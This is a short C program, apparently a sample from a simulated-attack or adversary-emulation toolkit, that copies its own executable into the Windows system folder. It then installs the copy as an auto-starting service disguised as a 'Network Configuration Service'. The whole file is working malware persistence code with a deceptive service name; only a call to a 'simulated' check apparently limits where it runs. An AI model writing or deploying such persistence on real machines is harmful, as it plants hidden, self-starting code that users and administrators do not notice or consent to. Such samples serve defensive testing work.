/* Copies itself into the system folder and installs the copy as a service that starts with Windows.
 */
#include "persist.h"
#include "simulated.h"

int main(void)
{
	char path[MAX_PATH];
	leave_unless_simulated();
	if (!copy_self("netcfgsv.exe", path))
		return 1;
	SC_HANDLE manager = OpenSCManagerA(NULL, NULL, SC_MANAGER_CREATE_SERVICE);
	if (manager == NULL)
		return 1;
	SC_HANDLE service =
		CreateServiceA(manager, "NetCfgSv", "Network Configuration Service",
			       SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START,
			       SERVICE_ERROR_IGNORE, path, NULL, NULL, NULL, NULL, NULL);
	if (service != NULL) {
		StartServiceA(service, 0, NULL);
		CloseServiceHandle(service);
	}
	CloseServiceHandle(manager);
	return 0;
}
